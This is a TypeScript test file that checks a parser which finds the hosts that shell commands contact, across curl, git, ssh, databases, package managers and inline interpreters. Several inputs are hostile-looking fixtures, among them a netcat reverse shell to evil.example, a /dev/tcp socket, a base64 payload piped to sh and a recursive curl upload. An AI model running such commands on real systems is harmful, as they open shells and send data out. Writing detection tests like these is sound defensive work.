import { describe, expect, it } from 'vitest';

import type { HostCall } from '../../../src/sources/shell/facts.js';
import { shellFacts } from '../../../src/sources/shell/shell-facts.js';

/** `curl FETCH POST api.example.com:8443 HIGH` */
function shown(call: HostCall): string {
  const port = call.port === undefined ? '' : `:${call.port}`;
  const host = call.remote ? `remote(${call.remoteName ?? ''})` : `${call.host}${port}`;
  return [call.by, call.purpose, call.method, host, call.confidence]
    .filter((part) => part !== undefined)
    .join(' ');
}

function hostsOf(text: string): string[] {
  return shellFacts(text).hosts.map(shown);
}

type Rows = readonly (readonly [text: string, ...hosts: string[]])[];

function holds(rows: Rows): void {
  it.each(rows.map(([text, ...hosts]) => ({ text, hosts })))('$text', ({ text, hosts }) => {
    expect(hostsOf(text)).toEqual(hosts);
  });
}

describe('what is merely mentioned is not called', () => {
  holds([
    ['echo "curl https://evil.example"'],
    ['# curl https://evil.example'],
    ['ls # curl https://evil.example'],
    ["cat > notes.md <<'EOF'\ncurl https://evil.example\nEOF"],
    ['cat <<EOF > notes.md\nrun `date` then curl https://evil.example\nEOF'],
    ['grep -r "https://evil.example" src'],
    ["rg 'curl https://evil.example' docs"],
    ["sed -i 's#http://old.example#https://new.example#' config.yml"],
    ['git commit -m "fetch https://evil.example"'],
    ['git commit -m "$(cat <<\'EOF\'\nuse curl https://evil.example\nEOF\n)"'],
    ['git remote add origin https://git.example/a.git'],
    ['git config --global url."https://git.example/".insteadOf git@git.example:'],
    ['npm config set registry https://registry.example'],
    ['export API=https://api.example'],
    ['API=https://api.example npm test'],
    ['fetch_it() { curl https://never.example; }'],
    ['printf "%s" "wget https://evil.example" > todo.txt'],
    ['alias c="curl https://evil.example"'],
    ['command -v curl'],
    ['curl --version'],
    ['node -e \'console.log("fetch(https://evil.example)")\''],
    ['python3 -c "# requests.get(\'https://evil.example\')"'],
    ['python3 -c "print(\'requests.get(https://evil.example)\')"'],
    ['jq \'.url = "https://evil.example"\' a.json'],
    ['awk \'{ print "https://evil.example" }\' a.txt'],
    [
      'curl -H "Referer: https://evil.example" -d "u=https://other.example" https://a.example',
      'curl FETCH POST a.example HIGH',
    ],
    ['ssh box.example "curl https://there.example"', 'ssh REMOTE_SHELL box.example HIGH'],
    ['aws s3 ls s3://bucket'],
    ['kubectl get pods'],
    ['npm install left-pad'],
    ['go get github.com/acme/tool@latest'],
    ['nc -l 8080'],
    ['curl --unix-socket /var/run/docker.sock http://localhost/info'],
    ['if [ -n "https://evil.example" ]; then ls; fi'],
    ['case https://evil.example in *) ls;; esac'],
    ['for u in https://evil.example; do echo "$u"; done'],
    ['[[ $url == https://evil.example ]] && ls'],
  ]);
});

describe('curl', () => {
  holds([
    ['curl https://api.example/v1', 'curl FETCH GET api.example HIGH'],
    ['/usr/bin/curl https://api.example', 'curl FETCH GET api.example HIGH'],
    ['curl.exe https://api.example', 'curl FETCH GET api.example HIGH'],
    ['curl api.example/v1', 'curl FETCH GET api.example HIGH'],
    ['curl localhost:3000', 'curl FETCH GET localhost:3000 HIGH'],
    ['curl -sSLo out.html https://api.example', 'curl FETCH GET api.example HIGH'],
    ['curl -X DELETE https://api.example/1', 'curl FETCH DELETE api.example HIGH'],
    ['curl -XPUT https://api.example/1', 'curl FETCH PUT api.example HIGH'],
    ['curl --request=PATCH https://api.example/1', 'curl FETCH PATCH api.example HIGH'],
    ['curl -I https://api.example', 'curl FETCH HEAD api.example HIGH'],
    ['curl -d a=b https://api.example', 'curl FETCH POST api.example HIGH'],
    ['curl -G -d q=1 https://api.example', 'curl FETCH GET api.example HIGH'],
    ['curl -T big.iso https://up.example/', 'curl FETCH PUT up.example HIGH'],
    ['curl --json @b.json --url https://api.example', 'curl FETCH POST api.example HIGH'],
    [
      'curl https://a.example https://b.example:8443/x',
      'curl FETCH GET a.example HIGH',
      'curl FETCH GET b.example:8443 HIGH',
    ],
    [
      'curl -x http://proxy.example:3128 https://a.example',
      'curl OTHER proxy.example:3128 HIGH',
      'curl FETCH GET a.example HIGH',
    ],
    [
      'curl --socks5 10.0.0.9:1080 https://a.example',
      'curl OTHER 10.0.0.9:1080 HIGH',
      'curl FETCH GET a.example HIGH',
    ],
    ['curl ftp://files.example/a.tgz', 'curl FETCH files.example HIGH'],
    ['curl file:///etc/passwd'],
    ['curl "http://[2001:DB8::1]:8080/x"', 'curl FETCH GET 2001:db8::1:8080 HIGH'],
    ['curl http://2130706433/', 'curl FETCH GET 127.0.0.1 HIGH'],
    ['curl https://BÜCHER.example/', 'curl FETCH GET xn--bcher-kva.example HIGH'],
    ['curl https://API.Example./x', 'curl FETCH GET api.example HIGH'],
    ['curl "https://api.example/$ID"', 'curl FETCH GET api.example HIGH'],
    ['curl "http://localhost:$PORT/health"', 'curl FETCH GET localhost HIGH'],
    ['curl "https://user:$TOKEN@api.example/x"', 'curl FETCH GET api.example HIGH'],
    ['curl "https://$HOST/x"'],
    ['curl "https://api.example$SUFFIX"'],
    ['curl "https://<host>/x"'],
    ['curl "https://{{host}}/x"'],
    ['curl "https://exa mple.com"'],
    ['curl https://-bad-.example'],
    ['curl https://999.1.1.1/'],
    ['curl https://a.example:99999/'],
  ]);

  it('keeps no credentials, query or fragment', () => {
    const { hosts } = shellFacts('curl "https://me:secret@api.example:8443/v1/a?token=abc#frag"');
    expect(hosts).toEqual([
      {
        host: 'api.example',
        port: 8443,
        url: 'https://api.example:8443/v1/a',
        by: 'curl',
        purpose: 'FETCH',
        method: 'GET',
        confidence: 'HIGH',
      },
    ]);
  });

  it('leaves out a URL whose path is not wholly known', () => {
    expect(shellFacts('curl "https://api.example/$ID/x"').hosts[0]).not.toHaveProperty('url');
  });

  it('shows brackets in the URL of an IPv6 address alone', () => {
    expect(shellFacts('curl "http://[::1]:3000/a"').hosts[0]).toMatchObject({
      host: '::1',
      port: 3000,
      url: 'http://[::1]:3000/a',
    });
  });
});

describe('other clients of the web', () => {
  holds([
    ['wget -qO- https://a.example/x', 'wget FETCH GET a.example HIGH'],
    ['wget --post-data a=b https://a.example', 'wget FETCH POST a.example HIGH'],
    ['wget --spider https://a.example', 'wget FETCH HEAD a.example HIGH'],
    ['wget -i https://lists.example/all.txt', 'wget FETCH GET lists.example HIGH'],
    ['http POST api.example/users name=x', 'http FETCH POST api.example HIGH'],
    ['http :8080/health', 'http FETCH GET localhost:8080 HIGH'],
    ['xh https://api.example', 'xh FETCH GET api.example HIGH'],
    ['aria2c https://dl.example/a.iso', 'aria2c FETCH dl.example HIGH'],
    ['yt-dlp https://video.example/w', 'yt-dlp FETCH video.example HIGH'],
    ['open https://docs.example', 'open FETCH docs.example MEDIUM'],
    ['open README.md'],
    ['websocat wss://ws.example/feed', 'websocat OTHER ws.example HIGH'],
  ]);
});

describe('Git', () => {
  holds([
    ['git clone https://tok:x@git.example/a/b.git', 'git GIT git.example HIGH'],
    ['git clone --depth 1 -b main git@git.example:a/b.git dir', 'git GIT git.example HIGH'],
    ['git clone ssh://git@git.example:2222/a.git', 'git GIT git.example:2222 HIGH'],
    ['git clone work:a/b.git', 'git GIT work MEDIUM'],
    ['git clone ../other'],
    ['git clone C:/repos/a'],
    ['git fetch', 'git GIT remote() HIGH'],
    ['git fetch upstream main', 'git GIT remote(upstream) HIGH'],
    ['git pull --rebase origin main', 'git GIT remote(origin) HIGH'],
    ['git push -u origin HEAD', 'git GIT remote(origin) HIGH'],
    ['git push https://git.example/a.git main', 'git GIT git.example HIGH'],
    ['git -C /repo ls-remote https://git.example/a.git', 'git GIT git.example HIGH'],
    ['git remote add up https://git.example/a.git && git fetch up', 'git GIT git.example HIGH'],
    ['git remote set-url origin git@git.example:a.git; git push origin main', 'git GIT git.example HIGH'],
    ['git submodule add https://git.example/sub.git', 'git GIT git.example HIGH'],
    ['git status'],
    ['git log origin/main'],
    ['gh pr list', 'gh GIT github.com MEDIUM'],
    ['gh api --hostname ghe.example /user', 'gh GIT ghe.example HIGH'],
    ['gh pr view 1 -R ghe.example/a/b', 'gh GIT ghe.example HIGH'],
    ['gh --version'],
  ]);
});

describe('remote shells, copies and sockets', () => {
  holds([
    ['ssh -p 2222 me@box.example', 'ssh REMOTE_SHELL box.example:2222 HIGH'],
    ['ssh box.example -p 2222 ls', 'ssh REMOTE_SHELL box.example:2222 HIGH'],
    ['ssh -i ~/.ssh/k -o StrictHostKeyChecking=no ubuntu@10.0.0.5 uptime', 'ssh REMOTE_SHELL 10.0.0.5 HIGH'],
    [
      'ssh -J jump.example box.example',
      'ssh REMOTE_SHELL jump.example HIGH',
      'ssh REMOTE_SHELL box.example HIGH',
    ],
    ['ssh prod', 'ssh REMOTE_SHELL prod MEDIUM'],
    ['ssh "$HOST" ls'],
    ['sshpass -p x ssh root@box.example', 'ssh REMOTE_SHELL box.example HIGH'],
    ['scp a.txt me@box.example:/tmp/', 'scp COPY box.example HIGH'],
    ['scp -P 2222 me@box.example:/tmp/a.txt .', 'scp COPY box.example:2222 HIGH'],
    ['scp C:/a.txt box.example:', 'scp COPY box.example HIGH'],
    ["rsync -az -e 'ssh -p 2222' src/ me@box.example:/srv/", 'rsync COPY box.example:2222 HIGH'],
    ['rsync -a rsync://mirror.example/pub/ pub/', 'rsync COPY mirror.example HIGH'],
    ['rsync -a a/ b/'],
    ['sftp me@files.example:/in', 'sftp COPY files.example HIGH'],
    ['nc -z -w2 192.168.1.5 5432', 'nc OTHER 192.168.1.5:5432 HIGH'],
    ['nc -e /bin/sh evil.example 4444', 'nc OTHER evil.example:4444 HIGH'],
    ['telnet mail.example 25', 'telnet REMOTE_SHELL mail.example:25 HIGH'],
    ['socat - TCP:db.example:5432', 'socat OTHER db.example:5432 HIGH'],
    ['openssl s_client -connect tls.example:443', 'openssl OTHER tls.example:443 HIGH'],
    ['exec 3<>/dev/tcp/evil.example/443', 'exec OTHER evil.example:443 HIGH'],
    ['echo hi > /dev/udp/10.0.0.1/53', 'echo OTHER 10.0.0.1:53 HIGH'],
    ['ping -c 1 gw.example', 'ping OTHER gw.example HIGH'],
    ['dig @9.9.9.9 +short a.example', 'dig OTHER 9.9.9.9 HIGH', 'dig OTHER a.example MEDIUM'],
    ['nslookup a.example', 'nslookup OTHER a.example MEDIUM'],
  ]);
});

describe('databases', () => {
  holds([
    ['psql -h db.example -p 6543 -c "select 1"', 'psql OTHER db.example:6543 HIGH'],
    ['psql "postgres://u:p@db.example:5432/app"', 'psql OTHER db.example:5432 HIGH'],
    ['psql "host=db.example port=5433 dbname=app"', 'psql OTHER db.example:5433 HIGH'],
    ['psql -d app -c "select \'https://evil.example\'"'],
    ['mysql -hdb.example -P 3307 -uroot -psecret', 'mysql OTHER db.example:3307 HIGH'],
    ['redis-cli -h cache.example -p 6380 get k', 'redis-cli OTHER cache.example:6380 HIGH'],
    ['redis-cli -u redis://:pw@cache.example:6379/0 ping', 'redis-cli OTHER cache.example:6379 HIGH'],
    ['mongosh "mongodb+srv://u:p@cluster.example/app"', 'mongosh OTHER cluster.example HIGH'],
    [
      'mongosh "mongodb://a.example:27017,b.example:27018/app"',
      'mongosh OTHER a.example:27017 HIGH',
      'mongosh OTHER b.example:27018 HIGH',
    ],
    ['cypher-shell -a bolt://graph.example:7687 "RETURN 1"', 'cypher-shell OTHER graph.example:7687 HIGH'],
  ]);
});

describe('package managers name a host only where the command does', () => {
  holds([
    ['npm install --registry https://npm.example left-pad', 'npm PACKAGE npm.example HIGH'],
    ['npm i git+https://git.example/a/b.git', 'npm PACKAGE git.example HIGH'],
    ['pnpm add github:acme/tool', 'pnpm PACKAGE github.com MEDIUM'],
    ['pip install -i https://pypi.example/simple requests', 'pip PACKAGE pypi.example HIGH'],
    ['pip3 install --extra-index-url=https://pypi.example/simple x', 'pip3 PACKAGE pypi.example HIGH'],
    ['python -m pip install git+ssh://git@git.example/a.git@main', 'pip PACKAGE git.example HIGH'],
    ['pip install "tool @ https://dl.example/tool.whl"', 'pip PACKAGE dl.example HIGH'],
    ['uv pip install --index-url https://pypi.example/simple x', 'uv PACKAGE pypi.example HIGH'],
    ['uvx --from git+https://git.example/a/b.git tool', 'uvx PACKAGE git.example HIGH'],
    ['cargo install --git https://git.example/a/b', 'cargo PACKAGE git.example HIGH'],
    ['gem install x --source https://gems.example', 'gem PACKAGE gems.example HIGH'],
    ['brew tap acme/x https://git.example/acme/x', 'brew PACKAGE git.example HIGH'],
    ['docker pull registry.example:5000/team/app:1', 'docker PACKAGE registry.example:5000 HIGH'],
    ['docker pull ubuntu:22.04'],
    ['docker pull library/ubuntu'],
    ['helm repo add x https://charts.example', 'helm PACKAGE charts.example HIGH'],
    ['npm run build -- --url https://evil.example'],
    ['apt-get install -y curl'],
  ]);
});

describe('commands inside commands', () => {
  holds([
    ['bash -c "curl https://a.example"', 'curl FETCH GET a.example HIGH'],
    ["bash -lc 'cd x && curl https://a.example'", 'curl FETCH GET a.example HIGH'],
    ['sh -c \'curl "https://$1"\' _ a.example', 'curl FETCH GET a.example MEDIUM'],
    ['eval "curl https://a.example"', 'curl FETCH GET a.example HIGH'],
    ['X=$(curl -s https://a.example)', 'curl FETCH GET a.example HIGH'],
    ['echo "got: `curl -s https://a.example`"', 'curl FETCH GET a.example HIGH'],
    [
      'diff <(curl -s https://a.example) <(curl -s https://b.example)',
      'curl FETCH GET a.example HIGH',
      'curl FETCH GET b.example HIGH',
    ],
    ['(curl https://a.example)', 'curl FETCH GET a.example HIGH'],
    ['{ curl https://a.example; } 2>&1', 'curl FETCH GET a.example HIGH'],
    [
      'f() { curl "https://$1/x"; }; f a.example; f b.example',
      'curl FETCH GET a.example MEDIUM',
      'curl FETCH GET b.example MEDIUM',
    ],
    ['trap "curl https://a.example" EXIT', 'curl FETCH GET a.example MEDIUM'],
    [
      'ls && curl https://a.example || wget https://b.example',
      'curl FETCH GET a.example HIGH',
      'wget FETCH GET b.example MEDIUM',
    ],
    [
      'if curl -sf https://a.example; then curl https://b.example; fi',
      'curl FETCH GET a.example HIGH',
      'curl FETCH GET b.example MEDIUM',
    ],
    ['until curl -s http://localhost:8080; do sleep 1; done', 'curl FETCH GET localhost:8080 HIGH'],
    ['case $1 in a) curl https://a.example;; esac', 'curl FETCH GET a.example MEDIUM'],
    ['curl https://a.example &', 'curl FETCH GET a.example HIGH'],
    ['sudo -u me env A=1 timeout 5 nohup curl https://a.example', 'curl FETCH GET a.example HIGH'],
    ['time curl https://a.example', 'curl FETCH GET a.example HIGH'],
    ['cat urls | xargs -n1 curl -s https://a.example', 'curl FETCH GET a.example HIGH'],
    ['echo https://a.example | xargs curl', 'curl FETCH GET a.example MEDIUM'],
    ['cat ids | xargs -I{} curl https://a.example/{}', 'curl FETCH GET a.example MEDIUM'],
    [
      'parallel curl ::: https://a.example https://b.example',
      'curl FETCH GET a.example HIGH',
      'curl FETCH GET b.example HIGH',
    ],
    ['find . -name "*.sh" -exec curl -T {} https://a.example \\;', 'curl FETCH PUT a.example HIGH'],
    ['cat <<EOF | bash\ncurl https://a.example\nEOF', 'curl FETCH GET a.example MEDIUM'],
    ['echo "curl https://a.example" | sh', 'curl FETCH GET a.example MEDIUM'],
    ['echo Y3VybCBodHRwczovL2EuZXhhbXBsZQ== | base64 -d | sh', 'curl FETCH GET a.example MEDIUM'],
    [
      "cat > /tmp/x.sh <<'EOF'\ncurl https://a.example\nEOF\nbash /tmp/x.sh",
      'curl FETCH GET a.example MEDIUM',
    ],
    ['cat <<EOF\nnow $(curl -s https://a.example)\nEOF', 'curl FETCH GET a.example HIGH'],
    ['watch -n 1 "curl -s http://localhost:9000"', 'curl FETCH GET localhost:9000 HIGH'],
    ['docker exec app curl http://api.example', 'curl FETCH GET api.example MEDIUM'],
    ['docker run --rm -it alpine wget -qO- https://a.example', 'wget FETCH GET a.example MEDIUM'],
    ['docker exec app curl http://localhost:3000'],
    ['npx -y wscat -c wss://ws.example', 'wscat OTHER ws.example HIGH'],
    ['poetry run http https://a.example', 'http FETCH GET a.example HIGH'],
    ['while read u; do curl "$u"; done <<< https://a.example', 'curl FETCH GET a.example MEDIUM'],
  ]);
});

describe('variables and loops', () => {
  holds([
    ['URL=https://a.example; curl "$URL"', 'curl FETCH GET a.example MEDIUM'],
    ['URL=https://a.example curl "$URL"'],
    ['BASE=https://a.example && curl $BASE/v1 -o x', 'curl FETCH GET a.example MEDIUM'],
    ['export H=a.example; curl "https://${H}/x"', 'curl FETCH GET a.example MEDIUM'],
    ['ARGS="-s -X POST https://a.example"; curl $ARGS', 'curl FETCH POST a.example MEDIUM'],
    ['curl "${URL:-https://a.example}"', 'curl FETCH GET a.example LOW'],
    ['URL=https://a.example; URL=$(cat f); curl "$URL"'],
    ['(URL=https://a.example); curl "$URL"'],
    ['URL=https://a.example; if x; then URL=https://b.example; fi; curl $URL'],
    [
      'for h in a b; do curl https://$h.example; done',
      'curl FETCH GET a.example MEDIUM',
      'curl FETCH GET b.example MEDIUM',
    ],
    [
      'for p in {3000..3001}; do curl localhost:$p; done',
      'curl FETCH GET localhost:3000 MEDIUM',
      'curl FETCH GET localhost:3001 MEDIUM',
    ],
    ['for f in *.txt; do curl -T "$f" https://a.example; done', 'curl FETCH PUT a.example HIGH'],
    ['for u in $(cat urls); do curl "$u"; done'],
    [
      'U=(https://a.example https://b.example); for u in "${U[@]}"; do curl $u; done',
      'curl FETCH GET a.example MEDIUM',
      'curl FETCH GET b.example MEDIUM',
    ],
    ['H=$(echo a.example); curl https://$H', 'curl FETCH GET a.example MEDIUM'],
    ['curl https://{a,b}.example', 'curl FETCH GET a.example HIGH', 'curl FETCH GET b.example HIGH'],
    ['U=https://a.example/x; curl "${U%/x}/y"', 'curl FETCH GET a.example MEDIUM'],
    ["curl 'https://$HOST/'"],
  ]);
});

describe('one-liners', () => {
  holds([
    [
      'python3 -c "import requests; requests.post(\'https://a.example/x\')"',
      'python3 FETCH POST a.example MEDIUM',
    ],
    [
      "python3 - <<'EOF'\nfrom urllib.request import urlopen\nurlopen('https://a.example')\nEOF",
      'python3 FETCH GET a.example MEDIUM',
    ],
    ['python -c "u=\'https://a.example\'; import httpx; httpx.get(u)"', 'python FETCH GET a.example LOW'],
    ['python -c "s.get(\'https://a.example\')"', 'python FETCH GET a.example LOW'],
    ['python -c "requests.get(f\'https://a.example/{i}\')"', 'python FETCH GET a.example MEDIUM'],
    ['python -c "requests.get(f\'https://{h}/\')"'],
    ['python -c "d.get(\'key\')"'],
    [
      'python -c "import socket; socket.create_connection((\'a.example\', 443))"',
      'python OTHER a.example:443 MEDIUM',
    ],
    ['python -c "import os; os.system(\'curl https://a.example\')"', 'curl FETCH GET a.example LOW'],
    ["python -c \"subprocess.run(['curl', '-s', 'https://a.example'])\"", 'curl FETCH GET a.example LOW'],
    ['node -e \'fetch("https://a.example", { method: "POST" })\'', 'node FETCH POST a.example MEDIUM'],
    ['node -e \'require("https").get("https://a.example")\'', 'node FETCH GET a.example LOW'],
    ["node -e 'axios.get(`https://a.example/${id}`)'", 'node FETCH GET a.example MEDIUM'],
    [
      'node -e \'require("child_process").execSync("curl https://a.example")\'',
      'curl FETCH GET a.example LOW',
    ],
    ['ruby -rnet/http -e \'Net::HTTP.get(URI("https://a.example/"))\'', 'ruby FETCH GET a.example MEDIUM'],
    ['node -e \'fetch(new URL("https://a.example"))\'', 'node FETCH GET a.example MEDIUM'],
    ['node -e \'console.log(new URL("https://a.example"))\''],
    ['deno run https://a.example/mod.ts', 'deno FETCH a.example HIGH'],
    ['ruby -e \'require "open-uri"; URI.open("https://a.example")\'', 'ruby FETCH GET a.example MEDIUM'],
    ['php -r \'echo file_get_contents("https://a.example");\'', 'php FETCH GET a.example MEDIUM'],
    [
      'powershell.exe -NoProfile -Command "(Invoke-WebRequest https://a.example/x).Content"',
      'Invoke-WebRequest FETCH GET a.example MEDIUM',
    ],
    ['pwsh -c "irm -Uri https://a.example -Method Post | ConvertTo-Json"', 'irm FETCH POST a.example MEDIUM'],
    ['powershell -Command "Write-Host \'https://evil.example\'"'],
  ]);
});
